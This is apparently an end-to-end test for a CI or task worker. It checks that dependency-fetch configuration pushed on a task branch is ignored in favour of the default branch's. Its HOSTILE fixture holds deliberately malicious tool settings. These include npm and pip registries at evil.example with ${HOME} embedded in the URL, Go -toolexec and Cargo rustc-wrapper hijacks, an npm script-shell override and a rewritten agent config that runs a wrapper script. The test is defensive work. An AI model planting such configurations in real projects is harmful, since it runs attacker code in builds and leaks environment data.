#!/usr/bin/python3
# deadline: 300
"""L9 in the warm: what a pushed task branch says of how dependencies are fetched. Its tool configuration, and its version of the
recipe's own program, have no effect and no layer of their own; its manifests count, and so does what the default branch says."""

import os
import shutil
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import registries  # noqa: E402
from e2e import Place  # noqa: E402
from tap import Tap  # noqa: E402
from tasksite import TaskSite, configure_operator  # noqa: E402

# The layer holds every file that was let in, and what two tools took for their configuration. No registry is asked: nothing is
# left to download.
RECIPE = """#!/bin/sh
set -e
mkdir -p out/in
echo MARK >out/recipe
find . -type f ! -path './out/*' -exec cp --parents {} out/in ';'
! command -v npm || npm config get registry script-shell ignore-scripts >out/npm
! /usr/bin/python3 -m pip --version || /usr/bin/python3 -m pip config list >out/pip
"""
CONFIG = """[fetch]
	warm = ./fetch.sh step.py
	inputs = fetch.sh
	inputs = requirements.txt
	inputs = **/*.toml
	inputs = Cargo.lock
	inputs = src/*.rs
	inputs = .npmrc
	inputs = pip.conf
	inputs = go.env
	inputs = .mvn/*
	inputs = Makefile
	inputs = *.py
	output = out
	env = PIP_CONFIG_FILE=/work/pip.conf
	env = GOENV=/work/go.env
"""
TRUSTED = {
    "fetch.sh": RECIPE.replace("MARK", "of main"),
    "requirements.txt": "six==1\n",
    "Cargo.toml": '[package]\nname = "number"\nversion = "0.1.0"\nedition = "2018"\n',
    "Cargo.lock": '[[package]]\nname = "number"\nversion = "0.1.0"\n',
    "src/lib.rs": "",
    ".npmrc": "registry=https://good.example/\nignore-scripts=true\n",
    "pip.conf": "[global]\nindex-url = https://good.example/\n",
    "go.env": "GOFLAGS=-tags=good\n",
    ".cargo/config.toml": '[alias]\nrules = "version"\n',
    ".mvn/jvm.config": "-Duser.language=en\n",
    "Makefile": "deps:\n",
    "step.py": "",
}
WRAPPER = "#!/bin/sh\nmkdir -p /work/out\necho evil >/work/out/wrapped\nexec \"$@\"\n"
HOSTILE = {
    "fetch.sh": RECIPE.replace("MARK", "evil"),
    ".npmrc": "registry=https://evil.example/${HOME}/\nscript-shell=/work/src/evil.rs\nignore-scripts=false\n",
    "pip.conf": "[global]\nindex-url = https://evil.example/\nextra-index-url = https://${HOME}.evil.example/\n",
    "go.env": "GOFLAGS=-toolexec=/work/evil\nGOPROXY=https://evil.example\n",
    ".cargo/config.toml": '[build]\nrustc-wrapper = "/work/src/evil.rs"\n[alias]\nrules = "help"\n',
    "sub/.cargo/config.toml": '[build]\nrustc-wrapper = "evil"\n',
    "rust-toolchain.toml": '[toolchain]\npath = "/work/evil"\n',
    ".mvn/jvm.config": "-Xlog:disable -Xlog:all=info:file=/work/out/evil\n",
    ".mvn/extensions.xml": "<extensions><extension><groupId>evil</groupId><artifactId>evil</artifactId><version>1</version>"
                           "</extension></extensions>\n",
    "src/evil.rs": WRAPPER,
    "Makefile": "deps:\n\techo evil\n",
    "step.py": "print('evil')\n",
    ".agent/config": CONFIG.replace("./fetch.sh step.py", "sh src/evil.rs sh fetch.sh"),
}
NPM = {"package.json": '{"name": "x", "version": "1.0.0"}\n',
       "package-lock.json": '{"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": true,'
                            ' "packages": {"": {"name": "x", "version": "1.0.0"}}}\n'}


def push(site, branch, files):
    """A task on top of the default branch with these files. What the worker said of it."""
    site.git("checkout", "-q", "--detach", "main")
    for path in site.git("ls-files").splitlines():
        if files.get(path, "") is None:
            site.git("rm", "-q", path)
    tip = site.commit("Translate two", {path: text for path, text in files.items() if text is not None})
    if "src/evil.rs" in files:
        site.git("update-index", "--chmod=+x", "src/evil.rs")
        site.git("commit", "-q", "--amend", "--no-edit")
        tip = site.git("rev-parse", "HEAD")
        site.git("checkout", "-q", "-f", "HEAD")
    site.push(f"HEAD:task/{branch}")
    return tip, site.place.agent("work", "--once")


def layers(place):
    """{key: {file: its text}} of the outputs."""
    found = {}
    for key in registries.deps(place)[0]:
        out = os.path.join(place.state, "store/deps", key, "work/out")
        found[key] = {}
        for top, _, names in os.walk(out):
            for name in names:
                with open(os.path.join(top, name), errors="replace") as f:
                    found[key][os.path.relpath(os.path.join(top, name), out)] = f.read()
    return found


def check_trusted(t, layer, **pushed):
    """What was let in is the default branch's, but for the manifests that were pushed; the tools that are there obeyed it."""
    wanted = {**TRUSTED, **pushed}
    t.equal({path[3:]: text for path, text in layer.items() if path.startswith("in/")}, wanted, "these very files were let in")
    t.equal(layer["recipe"], "of main\n", "the recipe is the default branch's")
    for tool in ("npm", "pip"):
        if tool not in layer:
            t.skip("hears its configuration: " + tool, "it is not installed")
        else:
            t.ok("https://good.example/" in layer[tool] and "evil" not in layer[tool],
                 f"{tool} has the default branch's configuration", layer[tool])


def general(t, place):
    site = TaskSite(place, "general", files={"a.txt": "one\ntwo\n", **TRUSTED}, settings=CONFIG)
    worked = push(site, "clean", {})[1]
    if not t.equal(site.states("task/clean"), ["done"], "a task without a word on it: dependencies are fetched", worked.text):
        return
    first = layers(place)
    t.ok("the warm has" not in worked.err, "and nothing is said", worked.err)
    check_trusted(t, list(first.values())[0])

    worked = push(site, "hostile", HOSTILE)[1]
    t.equal(site.states("task/hostile"), ["done"], "a task with a hostile configuration of every tool is done", worked.text)
    t.equal(layers(place), first, "with the layer of the default branch, and no other")
    said = [line for line in worked.err.splitlines() if "the warm has" in line]
    t.equal(len(said), 1, "one line says so", worked.err)
    told = worked.err[worked.err.find("note: "):]
    for path in (".cargo/config.toml", ".mvn/extensions.xml", ".mvn/jvm.config", ".npmrc", "fetch.sh", "go.env", "pip.conf",
                 "rust-toolchain.toml", "src/evil.rs", "sub/.cargo/config.toml"):
        t.contains(told, path, f"and names {path}")
    t.contains(told, "refs/heads/main", "and whose version counts")

    removed = {path: None for path in (".npmrc", "pip.conf", "go.env", ".cargo/config.toml", ".mvn/jvm.config")}
    push(site, "removed", removed)
    t.equal((site.states("task/removed"), layers(place)), (["done"], first), "nor is a setting gone that a push takes away")

    worked = push(site, "both", {**HOSTILE, "requirements.txt": "six==2\n"})[1]
    t.equal(site.states("task/both"), ["done"], "with a manifest of its own besides", worked.text)
    more = {key: layer for key, layer in layers(place).items() if key not in first}
    if t.equal(len(more), 1, "it has one layer of its own"):
        check_trusted(t, list(more.values())[0], **{"requirements.txt": "six==2\n"})
    t.equal({key: layers(place)[key] for key in first}, first, "the default branch's layer is as it was")

    site.git("checkout", "-q", "main")
    site.commit("Fetch from elsewhere", {".npmrc": "registry=https://better.example/\n", "fetch.sh": TRUSTED["fetch.sh"] + "\n"})
    site.git("push", "-q", "origin", "main")
    before = layers(place)
    push(site, "later", {})
    more = {key: layer for key, layer in layers(place).items() if key not in before}
    t.ok(len(more) == 1 and "better.example" in list(more.values())[0]["in/.npmrc"],
         "the default branch's next configuration has a layer of its own", more)


def npm(t, place):
    if not shutil.which("npm"):
        return t.skip("npm", "no npm")
    site = TaskSite(place, "npm", files={"a.txt": "one\ntwo\n", **NPM})
    before = registries.deps(place)[0]
    tip, worked = push(site, "npm", {".npmrc": "engine-strict=true\nregistry=https://evil.example/\nscript-shell=/work/evil\n"})
    t.equal(site.states("task/npm"), ["done"], "npm's own recipe: a pushed .npmrc", worked.text)
    inputs = [i["path"] for i in place.artefact("fetch/fetch.json", site.jobs("task/npm")[0]["run"])["inputs"]]
    t.equal(inputs, ["package-lock.json", "package.json"], "is no input")
    t.contains(worked.err, ".npmrc: the warm has", "and that is said")
    push(site, "none", {})
    t.equal((site.states("task/none"), len(registries.deps(place)[0])), (["done"], len(before) + 1),
            "the layer is the one without it")


with Tap() as t, Place() as place:
    if os.geteuid():
        t.skip("a worker's warm", "a user's jobs without a uid of their own are parked, so none is run")
        sys.exit(0)
    registries.surroundings(place)
    configure_operator(place)
    general(t, place)
    npm(t, place)
    t.equal([x for x in place.leftovers() if not x.startswith("cgroup")], [], "no process and no mount is left")
